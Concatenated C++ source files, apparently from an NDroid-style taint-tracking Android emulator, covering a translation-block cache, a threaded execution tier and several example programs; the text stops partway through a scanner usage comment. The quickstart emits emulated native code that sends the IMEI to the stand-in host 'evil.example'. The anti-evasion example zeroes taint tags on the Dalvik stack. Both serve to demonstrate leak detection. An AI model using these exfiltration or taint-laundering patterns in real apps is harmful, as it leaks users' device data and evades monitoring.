// outside IT, PC and the base register absent from reglist, reglist
// non-empty. Mirrors execute()'s kStm body: stores in ascending register
// order, writeback last (so a base in the list would store the original
// base — excluded anyway). Returns true when every word hit the write TLB
// (no self-modification dead-check needed).
inline bool stm_dense(CPUState& s, mem::AddressSpace& m, const Insn& in) {
  const BlockTransfer bt = block_transfer(in, s);
  GuestAddr addr = bt.start;
  bool all_hit = true;
  for (u8 rr = 0; rr < 15; ++rr) {
    if (!(in.reglist & (1u << rr))) continue;
    all_hit &= st_u32(m, addr, s.regs[rr]);
    addr += 4;
  }
  if (in.writeback) s.regs[in.rn] = bt.new_base;
  return all_hit;
}

// Dense LDM (pop-without-PC shape); same guarantees as stm_dense plus "no
// writeback when the base is in the list". Mirrors execute()'s kLdm body:
// load all words, then writeback, then write registers (loaded values win).
inline void ldm_dense(CPUState& s, mem::AddressSpace& m, const Insn& in) {
  const BlockTransfer bt = block_transfer(in, s);
  GuestAddr addr = bt.start;
  u32 loaded[16];
  u32 idx = 0;
  for (u8 rr = 0; rr < 15; ++rr) {
    if (!(in.reglist & (1u << rr))) continue;
    loaded[idx++] = ld_u32(m, addr);
    addr += 4;
  }
  if (in.writeback) s.regs[in.rn] = bt.new_base;
  idx = 0;
  for (u8 rr = 0; rr < 15; ++rr) {
    if (!(in.reglist & (1u << rr))) continue;
    s.regs[rr] = loaded[idx++];
  }
}

}  // namespace ndroid::arm
