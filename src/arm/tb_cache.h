// Basic-block translation cache (the analogue of QEMU's TB cache, which the
// paper's NDroid rides on: "QEMU caches hot instructions and the
// corresponding handlers", §V-C).
//
// On first execution of a PC the Cpu decodes straight-line instructions up
// to a control-transfer boundary into a TranslationBlock: the decoded Insn,
// its address, and its pre-classified Table V taint class, plus block-level
// summary flags (has_loads/has_stores/has_svc) that let an attached analysis
// decide *once per block* whether per-instruction hooks are needed at all
// (the taint-liveness fast path).
//
// Invalidation rules (self-modifying code, dlopen, register_helper):
//  * every page covered by a cached block is marked in a code-page bitmap;
//  * the guest address space consults the bitmap on writes and reports hits
//    back (see AddressSpace::set_write_watch), which kills every block
//    intersecting the written range — including a block that rewrites
//    itself mid-execution (`dead` is checked by the block executor);
//  * flush() drops everything (used when hook topology changes).
#pragma once

#include <functional>
#include <memory>
#include <unordered_map>
#include <vector>

#include "arm/insn.h"

namespace ndroid::mem {
class AddressSpace;
}  // namespace ndroid::mem

namespace ndroid::arm {

struct CPUState;
struct ThreadedBlock;  // arm/threaded.h

/// One decoded instruction inside a block, with its pre-classified taint
/// shape so per-instruction re-classification never happens on the hot path.
struct TbInsn {
  Insn insn;
  GuestAddr pc = 0;
  TaintClass taint_class = TaintClass::kNone;
  /// Fused handler (see executor.h select_fast_exec / select_fast_mem),
  /// nullptr when the instruction takes the general execute() path.
  /// Selected at translation time, so condition/operand/flag/addressing
  /// dispatch never happens per execution; loads and stores route through
  /// the address space's inline software-TLB probe. One slot for every
  /// fused shape keeps replay at a single dispatch branch.
  void (*fast)(const Insn&, CPUState&, mem::AddressSpace&) = nullptr;
};

struct TranslationBlock {
  GuestAddr pc = 0;
  bool thumb = false;
  u32 byte_length = 0;

  // Block-level summaries consulted by the block gate (fast-path decision).
  bool has_loads = false;   // any kLoad / kLdm instruction
  bool has_stores = false;  // any kStore / kStm instruction
  bool has_svc = false;     // ends in (or contains) an SVC

  /// Set by invalidation while the block may still be executing; the block
  /// executor checks it after stores and abandons the remaining instructions.
  bool dead = false;

  /// Fused compare-and-branch tail (executor.h select_fused_cmp_branch):
  /// when set, hot replay runs the final CMP + B<cond> pair through this
  /// single handler instead of two dispatches. The hooked/budgeted careful
  /// path ignores it and keeps per-instruction dispatch (both instructions
  /// retain their individual `fast` handlers).
  void (*tail)(const Insn& cmp, const Insn& br, CPUState&) = nullptr;

  /// Client-managed scope memo (0 = unknown, 1 = in scope, 2 = out of
  /// scope). Reset whenever the block gate changes (set_block_gate flushes).
  u8 scope_cache = 0;

  /// Block-gate memo: valid while the client's gate epoch equals gate_epoch
  /// (the client bumps its epoch whenever gate inputs change — e.g. taint
  /// liveness crossing zero). ~0 never matches a live epoch.
  u64 gate_epoch = ~0ull;
  bool gate_fire = true;

  /// Branch-gate memo for the block's most recent taken-branch target,
  /// epoch-validated the same way against the client's branch epoch.
  u64 branch_epoch = ~0ull;
  GuestAddr branch_to = 0;
  bool branch_quiet = false;

  u64 exec_count = 0;
  std::vector<TbInsn> insns;

  /// Threaded-code lowering of this block (arm/threaded.h), built lazily by
  /// the threaded execution tier. Owned here so the stream dies with the
  /// block — but never reset by kill_block: the threaded inner loop runs on
  /// raw pointers into it, and a block can kill *itself* through a store, so
  /// the stream must stay alive until the graveyard drains. Stale direct
  /// links into it are fenced by cache-version tags, exactly like the Cpu's
  /// front cache.
  std::shared_ptr<ThreadedBlock> threaded;
};

/// Keyed by (pc, thumb). Blocks are shared_ptr so an executing block
/// survives its own invalidation until the executor lets go of it: killed
/// blocks move to a graveyard the Cpu drains only when no block is being
/// executed, which lets the executor run on raw pointers (no per-block
/// refcount traffic).
class TbCache {
 public:
  static constexpr u32 kPageShift = 12;
  static constexpr u32 kMaxBlockInsns = 64;

  static u64 key(GuestAddr pc, bool thumb) {
    return static_cast<u64>(pc) | (static_cast<u64>(thumb) << 32);
  }

  TbCache();
  TbCache(const TbCache&) = delete;
  TbCache& operator=(const TbCache&) = delete;

  [[nodiscard]] std::shared_ptr<TranslationBlock> lookup(GuestAddr pc,
                                                         bool thumb);

  /// Registers a freshly translated block and marks its code pages.
  void insert(std::shared_ptr<TranslationBlock> tb);

  /// Kills every cached block intersecting [addr, addr+len).
  void invalidate_range(GuestAddr addr, u32 len);

  /// Drops every cached block (helper registration, hook-topology changes,
  /// explicit ablation resets).
  void flush();

  [[nodiscard]] std::size_t size() const { return blocks_.size(); }

  /// Bumped on every kill/flush; the Cpu's direct-mapped front cache tags
  /// entries with it so any invalidation atomically voids all raw pointers.
  [[nodiscard]] u64 version() const { return version_; }

  /// Stable address of the version counter, for code emitters that bake the
  /// link-fence load into host machine code (arm/jit.cc). Valid for this
  /// cache's lifetime.
  [[nodiscard]] const u64* version_addr() const { return &version_; }

  /// Destroys blocks killed since the last drain. Only safe to call when no
  /// translation block is currently being executed.
  void drain_graveyard() { graveyard_.clear(); }

  /// Statistics entry for a hit served from the Cpu's front cache (keeps
  /// hit_rate() meaningful without routing the fast path through lookup()).
  void count_front_hit() {
    ++lookups_;
    ++hits_;
  }

  /// Bulk form for tiers that count transitions inline and fold them in
  /// after a dispatch (the JIT's patched host-jump link follows): keeps
  /// hit_rate() comparable across tiers without putting counter traffic in
  /// emitted code.
  void count_front_hits(u64 n) {
    lookups_ += n;
    hits_ += n;
  }

  /// Page-granular bitmap of pages holding cached code; the address space
  /// checks it on every write (one byte per 4 KiB page over 4 GiB).
  [[nodiscard]] const u8* code_page_bitmap() const {
    return code_pages_.data();
  }

  /// Called with the page number whenever a code-page bit arms (0 -> 1) —
  /// i.e. the first time cached code lands on a page. The Cpu routes this
  /// to AddressSpace::tlb_invalidate_write_page: a store entry cached while
  /// the page was unwatched must not keep bypassing the write watch, or
  /// self-modifying-code invalidation would silently stop firing for that
  /// page. Clearing a bit needs no notification (the slow path just
  /// re-checks the bitmap; a stale "uncached" entry only costs a refill).
  void set_watch_armed_notifier(std::function<void(u32 page)> notifier) {
    watch_armed_ = std::move(notifier);
  }

  // --- Statistics ------------------------------------------------------
  [[nodiscard]] u64 lookups() const { return lookups_; }
  [[nodiscard]] u64 hits() const { return hits_; }
  [[nodiscard]] u64 translations() const { return translations_; }
  [[nodiscard]] u64 invalidated_blocks() const { return invalidated_; }
  [[nodiscard]] u64 flushes() const { return flushes_; }
  [[nodiscard]] double hit_rate() const {
    return lookups_ == 0 ? 0.0
                         : static_cast<double>(hits_) /
                               static_cast<double>(lookups_);
  }

 private:
  void kill_block(TranslationBlock* tb);

  std::unordered_map<u64, std::shared_ptr<TranslationBlock>> blocks_;
  std::unordered_map<u32, std::vector<TranslationBlock*>> page_blocks_;
  std::vector<u8> code_pages_;
  /// Killed blocks parked until the executor is provably outside them.
  std::vector<std::shared_ptr<TranslationBlock>> graveyard_;
  u64 version_ = 0;
  std::function<void(u32 page)> watch_armed_;

  u64 lookups_ = 0;
  u64 hits_ = 0;
  u64 translations_ = 0;
  u64 invalidated_ = 0;
  u64 flushes_ = 0;
};

}  // namespace ndroid::arm
