// Threaded-code execution tier: per-block micro-op streams with direct
// block linking (the QEMU-TCG analogue one tier above tb_cache's
// fused-handler replay).
//
// At emission time (ThreadedRun::emit) each TranslationBlock is lowered into
// a flat array of Uop records. Every record carries a computed-goto label
// plus fully pre-resolved operands — register indices, folded immediates,
// pre-decoded condition — so the inner loop (ThreadedRun::exec) is
// load-label / jump / tiny body with no per-instruction decode, no operand
// re-resolution, and no function-call dispatch. Load/store micro-ops probe
// the address space's software TLB inline (AddressSpace::tlb_probe_*); a
// write-TLB hit provably cannot touch cached code (watched pages are never
// cached there), so hit stores also skip the self-modification dead check.
//
// Taint fusion: the stream above is the *clean* lowering — it contains no
// analysis callouts at all, so a block the gate declares taint-free pays
// zero taint cost. When the block gate fires, execution switches to a
// parallel pre-resolved trace stream (TraceStep per instruction) built from
// the client's TraceEmitter: each step is either a fused thunk (the
// combined effect of every registered instruction hook, with scope and
// handler classification resolved once) or a generic hook dispatch.
// Selection happens per execution at block entry via the epoch-memoised
// gate, so taint liveness flipping never forces re-emission.
//
// Direct block linking: each block carries two monomorphic exit slots
// (taken / fall-through). When a terminal micro-op resolves its successor it
// patches the slot with a raw pointer to the successor's stream and later
// executions jump straight there without leaving the inner loop. Slots are
// tagged with the TbCache version; kill_block/flush bump the version, so
// every patched edge across the whole cache is void the instant any block
// dies — the same fencing protocol as the Cpu's front cache, with no edge
// bookkeeping on invalidation. The loop exits to the run_tb-style trampoline
// only on a link miss, a budget boundary, live ITSTATE, the helper window,
// a self-modification dead mark, or an analysis event.
#pragma once

#include <functional>
#include <memory>
#include <optional>
#include <vector>

#include "arm/tb_cache.h"

namespace ndroid::arm {

class Cpu;
struct JitBlock;  // arm/jit.h — host-code lowering of a ThreadedBlock

// Micro-op kinds. The X-macro keeps the enum, the computed-goto label table
// (threaded.cc), and the JIT's template dispatch (jit.cc) in one list so
// they can never drift out of order. The *_off/_pre/_post triples must stay
// contiguous (emission indexes base + variant).
#define NDROID_UOP_LIST(X)                                                 \
  X(enter)                                                                 \
  X(and_i) X(and_r) X(eor_i) X(eor_r) X(sub_i) X(sub_r) X(rsb_i) X(rsb_r) \
  X(add_i) X(add_r) X(adc_i) X(adc_r) X(sbc_i) X(sbc_r) X(rsc_i) X(rsc_r) \
  X(orr_i) X(orr_r) X(mov_i) X(mov_r) X(bic_i) X(bic_r) X(mvn_i) X(mvn_r) \
  X(cmp_i0) X(cmp_i) X(cmp_r) X(cmn_i) X(cmn_r)                            \
  X(subs_i) X(subs_r) X(adds_i) X(adds_r)                                  \
  X(movw) X(movt) X(mul) X(sxtb) X(sxth) X(uxtb) X(uxth)                   \
  X(lsl_i) X(lsr_i) X(asr_i) X(ror_i) X(umull) X(smull)                    \
  X(ldr_off) X(ldr_pre) X(ldr_post)                                        \
  X(ldrb_off) X(ldrb_pre) X(ldrb_post)                                     \
  X(ldrh_off) X(ldrh_pre) X(ldrh_post)                                     \
  X(ldrsb_off) X(ldrsb_pre) X(ldrsb_post)                                  \
  X(ldrsh_off) X(ldrsh_pre) X(ldrsh_post)                                  \
  X(str_off) X(str_pre) X(str_post)                                        \
  X(strb_off) X(strb_pre) X(strb_post)                                     \
  X(strh_off) X(strh_pre) X(strh_post)                                     \
  X(movw_movt) X(ldr_addi) X(stm) X(ldm)                                   \
  X(exec) X(exec_dead)                                                     \
  X(cmp0_b) X(cmp_i_b) X(cmp_r_b) X(subs_i_b)                              \
  X(b_al) X(bl_al) X(b_cond) X(bx_term) X(svc_term) X(exec_term) X(end)

enum class UK : u32 {
#define NDROID_UOP_ENUM(name) k_##name,
  NDROID_UOP_LIST(NDROID_UOP_ENUM)
#undef NDROID_UOP_ENUM
      kCount
};

/// A pre-resolved analysis thunk for one instruction: `fn(ctx, ...)` must
/// reproduce the combined effect of every registered instruction hook on
/// that instruction. `fn == nullptr` means the hooks provably no-op there.
/// `keepalive` owns whatever `ctx` points into.
struct TraceOp {
  using Fn = void (*)(void* ctx, Cpu& cpu, const Insn& insn, GuestAddr pc);
  Fn fn = nullptr;
  void* ctx = nullptr;
  std::shared_ptr<void> keepalive;
};

/// Per-instruction emission oracle installed by the analysis client
/// (Cpu::set_trace_emitter). Returns:
///  * std::nullopt          — no fused form; dispatch the generic hooks;
///  * TraceOp{fn=nullptr}   — the hooks provably no-op on this instruction;
///  * TraceOp{fn!=nullptr}  — fused thunk covering all hook effects.
/// Fused thunks are only ever used while exactly one instruction hook is
/// registered; any topology change flushes cached blocks (and with them
/// every built trace stream).
using TraceEmitter =
    std::function<std::optional<TraceOp>(const TranslationBlock& tb,
                                         const TbInsn& ti)>;

/// One micro-op record (32 bytes). Field meaning depends on the label:
/// for ALU ops a/b/c are destination/first/second register indices and
/// `imm` the folded immediate; for memory ops a=rd, b=rn, imm=signed offset
/// (already negated for subtracting forms) and x=the PC after the
/// instruction (partial-exit resume point for slow-path stores); for
/// branches imm/x are the taken/fall-through PCs and a holds the
/// pre-decoded condition; `p` points at the TbInsn (generic/terminal ops)
/// or at the owning ThreadedBlock (the entry op).
struct Uop {
  void* label = nullptr;
  u8 a = 0;
  u8 b = 0;
  u8 c = 0;
  u8 d = 0;
  u32 imm = 0;
  u32 x = 0;
  const void* p = nullptr;
};

/// A direct-link exit slot, version-tagged against the TbCache exactly like
/// Cpu::TbFrontEntry: any kill/flush bumps the cache version and thereby
/// unlinks every patched edge at once. `succ` stays dereference-safe even
/// when stale because killed blocks (and their streams) sit in the
/// graveyard until no executor frame is live.
struct ExitSlot {
  u64 version = ~0ull;  // never a live TbCache version
  u64 key = 0;
  ThreadedBlock* succ = nullptr;
};

/// One entry of the fused trace stream (parallel to tb.insns). `generic`
/// routes through the Cpu's registered hook list; otherwise `op` is the
/// fused thunk (op.fn == nullptr ⇒ provable no-op).
struct TraceStep {
  TraceOp op;
  bool generic = true;
};

struct ThreadedBlock {
  TranslationBlock* tb = nullptr;
  /// tb->insns.size(), cached flat so the entry op's budget check does not
  /// chase through the TranslationBlock.
  u32 n_insns = 0;
  /// [0] = entry op (gate + budget check), then one op per instruction
  /// (the final compare + conditional branch may fuse into one), then a
  /// terminal (or an explicit fall-through continuation).
  std::vector<Uop> ops;
  /// exits[0] = taken edge, exits[1] = fall-through edge.
  ExitSlot exits[2];
  /// Fused trace stream, built lazily on the first gated execution.
  bool traced_ready = false;
  std::vector<TraceStep> traced;
  /// Host-code lowering (arm/jit.cc), compiled lazily by the jit engine.
  /// Rides this block's lifetime so the graveyard protocol keeps emitted
  /// code reachable until no executor frame is live.
  std::shared_ptr<JitBlock> jit;
};

/// Static entry points of the threaded tier (friend of Cpu).
struct ThreadedRun {
  /// Lowers `tb` into a micro-op stream and attaches it as tb.threaded.
  static void emit(Cpu& cpu, TranslationBlock& tb);

  /// Runs the threaded inner loop starting at `entry`, following direct
  /// links across blocks, for at most `budget` instructions. On return the
  /// PC is architecturally correct. Returns instructions retired; 0 means
  /// the budget could not cover even the entry block (caller falls back to
  /// the careful per-instruction path).
  static u64 exec(Cpu& cpu, ThreadedBlock& entry, u64 budget);

  /// Runs one block with per-instruction trace dispatch (gate fired):
  /// the fused-or-generic TraceStep stream followed by the instruction,
  /// mirroring Cpu::exec_block's careful path bit for bit.
  static u64 exec_traced(Cpu& cpu, ThreadedBlock& blk, u64 budget);

  /// Computed-goto label table indexed by UK; jit.cc reverse-maps
  /// Uop::label through this to recover each op's kind.
  static void* const* label_table();

  /// Resolves the per-instruction TraceStep table for `blk` (scope + Table V
  /// classification via the installed TraceEmitter) if not already built.
  /// Shared with the jit tier: traced host streams are emitted against the
  /// same resolved steps the threaded traced loop replays.
  static void build_traced(Cpu& cpu, ThreadedBlock& blk);

 private:
  // Implementation details (threaded.cc); members so Cpu's friendship on
  // ThreadedRun covers the inner loop's access to the engine state.
  static u64 exec_impl(Cpu* cpu, ThreadedBlock* entry, u64 budget,
                       void* const** table_out);
  static u64 exec_traced_impl(Cpu& cpu, ThreadedBlock& blk, u64 budget);
};

}  // namespace ndroid::arm
