// Evasion gallery: walks through the five Table I scenarios, explaining for
// each how the flow crosses the JNI boundary, why TaintDroid's view loses
// the taint, and which NDroid mechanism recovers it.
#include <cstdio>
#include <memory>

#include "apps/leak_cases.h"
#include "core/ndroid.h"

using namespace ndroid;

namespace {

struct Explanation {
  const char* flow;
  const char* why_missed;
  const char* ndroid_fix;
};

const Explanation kExplanations[] = {
    {"Java source -> native processing -> Java sink",
     "not missed: TaintDroid taints a native method's return value when any "
     "parameter is tainted",
     "(also detected by NDroid's byte-accurate tracking)"},
    {"Java source -> native stores it; later JNI call returns it via "
     "NewStringUTF",
     "the second call has no tainted parameters, so its returned String is "
     "clean in TaintDroid's view",
     "SourcePolicy taints the native buffer; the tracer/models carry it; the "
     "NOF/MAF hook taints the new String object (Table III)"},
    {"Java source -> native sends it out itself (fprintf/send)",
     "TaintDroid has no native-context sinks",
     "System Lib Hook Engine checks Table VII sinks against the byte-level "
     "taint map"},
    {"data enters native, returns to Java via CallVoidMethod",
     "dvmCallMethod* clears the taint slots when building the Java frame",
     "multilevel hooking (T1..T6) gates dvmCallMethod*/dvmInterpret hooks "
     "that restore taints into the new frame (Fig. 5)"},
    {"native pulls the secret from Java (CallObjectMethod) and leaks it",
     "the data never passes a TaintDroid-visible sink with taint attached",
     "object taints keyed by indirect reference flow through "
     "GetStringUTFChars into the taint map; the SVC sink check fires"},
};

}  // namespace

int main() {
  const auto cases = apps::all_cases();
  int i = 0;
  for (const auto& [name, builder] : cases) {
    const Explanation& ex = kExplanations[i++];
    std::printf("=== %s ===\n", name.c_str());
    std::printf("flow:        %s\n", ex.flow);

    // TaintDroid only.
    {
      android::Device device;
      const auto scenario = builder(device);
      device.dvm.call(*scenario.entry, {});
      std::printf("TaintDroid:  %s\n",
                  device.framework.leaks().empty() ? "missed" : "detected");
      if (device.framework.leaks().empty()) {
        std::printf("  why:       %s\n", ex.why_missed);
      }
    }
    // With NDroid.
    {
      android::Device device;
      core::NDroid nd(device);
      const auto scenario = builder(device);
      device.dvm.call(*scenario.entry, {});
      const bool detected =
          !device.framework.leaks().empty() || !nd.leaks().empty();
      std::printf("NDroid:      %s\n", detected ? "detected" : "MISSED");
      std::printf("  mechanism: %s\n", ex.ndroid_fix);
      if (!nd.leaks().empty()) {
        std::printf("  native sink: %s -> %s (taint 0x%x)\n",
                    nd.leaks()[0].sink.c_str(),
                    nd.leaks()[0].destination.c_str(), nd.leaks()[0].taint);
      }
    }
    std::printf("\n");
  }
  return 0;
}
