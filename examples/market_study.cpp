// Market study example: generate a corpus, classify apps that may use JNI
// into the paper's three types, and print the study (§III). Corpus size and
// seed are configurable, demonstrating the analyzer on different samples.
//
// usage: market_study [total_apps] [seed]
#include <cstdio>
#include <cstdlib>

#include "market/analyzer.h"

using namespace ndroid;

int main(int argc, char** argv) {
  market::CorpusParams params;
  if (argc > 1) {
    const u32 total = static_cast<u32>(std::atoi(argv[1]));
    // Scale the absolute counts with the corpus size.
    const double scale = static_cast<double>(total) / params.total_apps;
    params.total_apps = total;
    params.type2_count = static_cast<u32>(params.type2_count * scale);
    params.type2_loadable_dex =
        static_cast<u32>(params.type2_loadable_dex * scale);
    params.type1_without_libs =
        static_cast<u32>(params.type1_without_libs * scale);
  }
  if (argc > 2) params.seed = static_cast<u64>(std::atoll(argv[2]));

  const auto corpus = market::generate_corpus(params);
  const auto study = market::analyze(corpus);

  std::printf("corpus: %u apps (seed %llu)\n\n", study.total,
              static_cast<unsigned long long>(params.seed));
  std::printf("type I   (call System.load*):        %u (%.2f%%)\n",
              study.type1, 100.0 * study.type1_fraction());
  std::printf("type II  (bundle libs, never load):  %u\n", study.type2);
  std::printf("type III (pure native):              %u\n", study.type3);
  std::printf("\ntype I category distribution:\n");
  for (const auto& [category, count] : study.type1_categories) {
    std::printf("  %-20s %6u (%.1f%%)\n", category.c_str(), count,
                100.0 * study.category_share(category));
  }
  std::printf("\nmost bundled native libraries:\n");
  for (const auto& [lib, count] : study.top_libraries(8)) {
    std::printf("  %-28s %u\n", lib.c_str(), count);
  }
  return 0;
}
