// Taint explorer: a tour of NDroid's public analysis surfaces on a hand
// written app — SourcePolicy records, the byte-granular taint map, shadow
// registers, the iref-keyed object shadow, the trace log, and the OS-level
// view reconstructor. This is the API a downstream analyst would script
// against.
#include <cstdio>

#include "apps/native_lib_builder.h"
#include "core/ndroid.h"
#include "os/view_reconstructor.h"

using namespace ndroid;

int main() {
  android::Device device("com.example.explorer");
  core::NDroid nd(device);

  // Native method: int mix(JNIEnv*, jclass, int secret, int pepper)
  //   { return secret * 31 + pepper; }  — pure register arithmetic, so the
  // instruction tracer (Table V) carries the taint through MUL and ADD.
  apps::NativeLibBuilder lib(device, "libexplorer.so");
  auto& a = lib.a();
  using arm::PC;
  using arm::R;
  const GuestAddr fn_mix = lib.fn();
  a.mov_imm(R(1), 31);
  a.mul(R(0), R(2), R(1));
  a.add(R(0), R(0), R(3));
  a.ret();
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lexplorer/App;");
  dvm::Method* mix = dvm.define_native(
      app, "mix", "III", dvm::kAccPublic | dvm::kAccStatic, fn_mix);

  // Call it with a tainted first argument, as if the int derived from IMEI.
  const dvm::Slot result =
      dvm.call(*mix, {dvm::Slot{1234, kTaintImei}, dvm::Slot{5, 0}});
  std::printf("mix(1234, 5) = %u, taint = 0x%x (IMEI bit %s)\n",
              result.value, result.taint,
              (result.taint & kTaintImei) ? "set" : "clear");

  // --- SourcePolicy map ------------------------------------------------
  std::printf("\nsource policies created: %llu, applied: %llu\n",
              static_cast<unsigned long long>(
                  nd.dvm_hooks().source_policies_created),
              static_cast<unsigned long long>(
                  nd.dvm_hooks().source_policies_applied));
  if (core::SourcePolicy* policy =
          nd.dvm_hooks().policies().find(fn_mix)) {
    std::printf("policy for 0x%x: shorty=%s tR2=0x%x tR3=0x%x\n",
                policy->method_address, policy->method_shorty.c_str(),
                policy->tR2, policy->tR3);
  }

  // --- Tracer statistics ------------------------------------------------
  std::printf("\ninstructions traced: %llu (cache hits %llu)\n",
              static_cast<unsigned long long>(
                  nd.tracer().instructions_traced()),
              static_cast<unsigned long long>(nd.tracer().cache_hits()));
  std::printf("taint-rule applications: %llu\n",
              static_cast<unsigned long long>(
                  nd.taint_engine().propagations));

  // --- Taint map, poked directly ----------------------------------------
  nd.taint_engine().map().set_range(0x30000000, 16, kTaintSms);
  std::printf("\ntaint map union over [0x30000000,+32) = 0x%x\n",
              nd.taint_engine().map().get_range(0x30000000, 32));

  // --- Object shadow keyed by indirect reference -------------------------
  dvm::Object* s = dvm.new_string("tracked");
  const u32 iref = dvm.irt().add(s);
  nd.taint_engine().add_object_shadow(iref, kTaintContacts);
  dvm.run_gc();  // moves objects; the iref key stays valid
  std::printf("object shadow after GC: 0x%x (object now at 0x%x)\n",
              nd.taint_engine().object_shadow(iref), s->addr());

  // --- OS-level view reconstruction (VMI) --------------------------------
  os::ViewReconstructor recon(device.memory, os::Kernel::kTaskRoot);
  std::printf("\nprocesses reconstructed from guest memory:\n");
  for (const auto& proc : recon.reconstruct()) {
    std::printf("  pid %u  %-24s %zu mapped regions\n", proc.pid,
                proc.name.c_str(), proc.regions.size());
  }

  // --- Trace log ----------------------------------------------------------
  std::printf("\nfirst trace-log lines:\n");
  u32 shown = 0;
  for (const auto& line : nd.log().lines()) {
    std::printf("  | %s\n", line.c_str());
    if (++shown == 8) break;
  }
  return result.taint == kTaintImei ? 0 : 1;
}
