// Quickstart: detect an information leak through JNI in three steps.
//
//   1. Build an emulated Android device.
//   2. Attach NDroid.
//   3. Load an app (Java bytecode + native library) and run it.
//
// The app below does what TaintDroid cannot see (paper case 2): Java reads
// the IMEI and hands it to native code, which ships it out over a socket.
#include <cstdio>

#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

using namespace ndroid;

int main() {
  // 1. The device: CPU, kernel, Dalvik VM, JNI, libc, Android framework.
  android::Device device("com.example.quickstart");

  // 2. NDroid, with default configuration (all four engines).
  core::NDroid ndroid(device);

  // 3a. The app's native library: void leak(JNIEnv*, jclass, jstring imei)
  //     { p = GetStringUTFChars(imei); fd = socket(); connect(fd, "evil.example", 80);
  //       send(fd, p, strlen(p)); }
  apps::NativeLibBuilder lib(device, "libquickstart.so");
  auto& a = lib.a();
  using arm::LR;
  using arm::PC;
  using arm::R;
  const GuestAddr host = lib.cstr("evil.example");
  const GuestAddr fn_leak = lib.fn();
  a.push({R(4), R(5), R(6), LR});
  a.mov(R(4), R(0));                       // env
  a.mov(R(1), R(2));                       // jstring
  a.mov_imm(R(2), 0);
  a.call(device.jni.fn("GetStringUTFChars"));
  a.mov(R(5), R(0));                       // C string
  a.mov_imm(R(0), 2);
  a.mov_imm(R(1), 1);
  a.mov_imm(R(2), 0);
  a.call(device.libc.fn("socket"));
  a.mov(R(6), R(0));                       // fd
  a.mov_imm32(R(1), host);
  a.mov_imm(R(2), 80);
  a.call(device.libc.fn("connect"));
  a.mov(R(0), R(5));
  a.call(device.libc.fn("strlen"));
  a.mov(R(2), R(0));                       // length
  a.mov(R(0), R(6));
  a.mov(R(1), R(5));
  a.call(device.libc.fn("send"));
  a.mov_imm(R(0), 0);
  a.pop({R(4), R(5), R(6), PC});
  lib.install();

  // 3b. The app's Java side: leak(TelephonyManager.getDeviceId()).
  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lcom/example/Quickstart;");
  dvm::Method* leak = dvm.define_native(
      app, "leak", "VL", dvm::kAccPublic | dvm::kAccStatic, fn_leak);
  dvm::Method* get_imei =
      device.framework.telephony->find_method("getDeviceId");
  dvm::CodeBuilder cb;
  cb.invoke(get_imei, {}).move_result(0).invoke(leak, {0}).return_void();
  dvm::Method* main_method = dvm.define_method(
      app, "main", "V", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());

  // Run it.
  dvm.call(*main_method, {});

  // What left the device?
  for (const auto& packet : device.kernel.network().packets()) {
    std::printf("packet to %s: '%s'\n", packet.dest_host.c_str(),
                packet.payload_str().c_str());
  }
  // What did NDroid see?
  if (ndroid.leaks().empty()) {
    std::printf("no leak detected (unexpected!)\n");
    return 1;
  }
  for (const auto& leak_report : ndroid.leaks()) {
    std::printf(
        "LEAK: sink=%s destination=%s taint=0x%x data='%s'\n",
        leak_report.sink.c_str(), leak_report.destination.c_str(),
        leak_report.taint, leak_report.data.c_str());
  }
  std::printf("(TaintDroid alone would have missed this: its sinks are in "
              "the Java context only.)\n");
  return 0;
}
