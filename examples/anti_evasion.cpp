// Anti-evasion: the paper's §VII taint-protection extension in action.
//
// "An app without root privileges can manipulate the taints in DVM" — a
// malicious native method can locate the interleaved taint tags on the DVM
// stack (Fig. 1) and zero them before passing data onward, laundering the
// taint. With taint protection enabled, NDroid flags the third-party store
// into the protected region.
#include <cstdio>

#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

using namespace ndroid;

int main() {
  android::Device device("com.example.evader");
  core::NDroidConfig cfg;
  cfg.taint_protection = true;
  core::NDroid ndroid(device, cfg);

  // Native method: void scrub(JNIEnv*, jclass, int frame_hint)
  // Sweeps a chunk of the DVM stack region writing zeros — the classic
  // "remove the taint tags" evasion.
  apps::NativeLibBuilder lib(device, "libscrub.so");
  auto& a = lib.a();
  using arm::Cond;
  using arm::Label;
  using arm::PC;
  using arm::R;
  const GuestAddr fn = lib.fn();
  Label loop, done;
  a.mov_imm32(R(1), android::Layout::kDalvikStack +
                        android::Layout::kDalvikStackSize - 0x100);
  a.mov_imm(R(2), 16);  // words to scrub
  a.mov_imm(R(0), 0);
  a.bind(loop);
  a.cmp_imm(R(2), 0);
  a.b(done, Cond::kEQ);
  a.str_post(R(0), R(1), 4);
  a.sub_imm(R(2), R(2), 1);
  a.b(loop);
  a.bind(done);
  a.ret();
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Levader/App;");
  dvm::Method* scrub = dvm.define_native(
      app, "scrub", "VI", dvm::kAccPublic | dvm::kAccStatic, fn);
  dvm.call(*scrub, {dvm::Slot{0, 0}});

  std::printf("taint-tamper alerts: %zu\n", ndroid.guard()->alerts().size());
  for (const auto& alert : ndroid.guard()->alerts()) {
    std::printf("  store from %s @0x%x into %s (target 0x%x)\n",
                alert.module.c_str(), alert.pc, alert.region.c_str(),
                alert.target);
  }
  if (ndroid.guard()->alerts().empty()) {
    std::printf("no tampering detected (unexpected!)\n");
    return 1;
  }
  std::printf("\nevasion attempt caught: the app wrote into the DVM stack's "
              "taint-tag area from native code.\n");
  return 0;
}
