// ndroid-scan: standalone static pre-analysis over the synthetic apps.
//
// Builds a Device, installs the requested app's native libraries and JNI
// registrations, then runs the static layer exactly the way
// NDroid::attach_static_analysis does — code regions from the OS view
// reconstructor, roots from the registered native methods, CFG lift, taint
// summaries — and prints the JSON report. No dynamic execution happens:
// this is the "scan the APK's .so before running it" half of the paper's
// pipeline, usable on its own.
//
//   ndroid-scan [app...]          app in: cfbench case1 case1p case2 case3
//                                 case4 (default: all)
//   ndroid-scan --list            list known apps
//   ndroid-scan --explain [app..] per-function precision audit: verdict and
//                                 a degradation reason chain for every
//                                 non-transparent function
//   ndroid-scan --precision [app...]
//                                 print only the aggregated PrecisionReport
//                                 JSON (what bench.sh stamps into the bench
//                                 artifact contexts)
//   ndroid-scan --check-budget F [app...]
